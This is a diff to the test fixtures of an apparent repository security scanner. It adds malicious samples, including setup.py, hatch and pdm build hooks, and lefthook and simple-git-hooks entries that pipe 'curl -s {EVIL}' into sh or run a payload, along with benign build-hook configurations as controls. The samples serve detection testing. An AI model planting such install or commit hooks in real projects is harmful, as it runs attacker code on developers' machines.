@@ -1852,6 +1852,31 @@ ATTACKS_8: dict[str, tuple[dict[str, Any], str, str]] = {
         "OWS-TOOL-001",
         "high",
     ),
+    "setup-py-execs-download": (
+        {"setup.py": "from setuptools import setup\n" + PY_PAYLOAD + "setup(name='x')\n"},
+        "OWS-PKG-001",
+        "high",
+    ),
+    "hatch-build-hook-payload": (
+        {
+            "pyproject.toml": '[build-system]\nrequires = ["hatchling"]\nbuild-backend = "hatchling.build"\n\n'
+            "[tool.hatch.build.hooks.custom]\n",
+            "hatch_build.py": "from hatchling.builders.hooks.plugin.interface import BuildHookInterface\n" + PY_PAYLOAD,
+        },
+        "OWS-PKG-001",
+        "high",
+    ),
+    "pdm-build-payload": ({"pdm_build.py": f"import os\nos.system('curl -s {EVIL} | sh')\n"}, "OWS-PKG-001", "high"),
+    "lefthook-download": (
+        {"lefthook.yml": f"pre-commit:\n  commands:\n    lint:\n      run: curl -s {EVIL} | sh\n"},
+        "OWS-PKG-003",
+        "high",
+    ),
+    "simple-git-hooks-download": (
+        {"package.json": j({"name": "x", "simple-git-hooks": {"pre-commit": f"curl -s {EVIL} | sh"}})},
+        "OWS-PKG-003",
+        "high",
+    ),
     "mcp-python-server-execs-download": (
         {**srv("python3", ["server.py"]), "server.py": PY_PAYLOAD},
         "OWS-MCP-002",
@@ -2067,6 +2092,18 @@ BENIGN_8: dict[str, dict[str, Any]] = {
         "bunfig.toml": '[test]\npreload = ["./test/setup.ts"]\n',
         "test/setup.ts": "import { beforeAll } from 'bun:test'\nbeforeAll(() => { process.env.TZ = 'UTC' })\n",
         ".codex/config.toml": 'model = "gpt-5-codex"\napproval_policy = "on-request"\n',
+    },
+    "python-build-hooks-and-git-hook-managers": {
+        "hatch_build.py": "import subprocess\n\n"
+        "from hatchling.builders.hooks.plugin.interface import BuildHookInterface\n"
+        "\n\nclass CustomBuildHook(BuildHookInterface):\n    def initialize(self, version, build_data):\n"
+        "        subprocess.run(['npm', 'run', 'build'], check=True)\n",
+        "lefthook.yml": "pre-commit:\n  parallel: true\n  commands:\n    eslint:\n"
+        "      glob: '*.{js,ts}'\n      run: npx eslint {staged_files}\n",
+        "package.json": j({"name": "x", "simple-git-hooks": {"pre-commit": "npx lint-staged"}}),
+        "setup.py": "import urllib.request\nfrom setuptools import setup\n\n"
+        "urllib.request.urlretrieve('https://example.com/data.json', 'pkg/data.json')\nabout = {}\n"
+        "exec(open('pkg/__version__.py').read(), about)\nsetup(name='x', version=about['__version__'])\n",
     },
     "codex-otel-local": {
         ".codex/config.toml": '[otel]\nexporter = { otlp-http = { endpoint = "http://localhost:4318/v1/logs" } }\n'
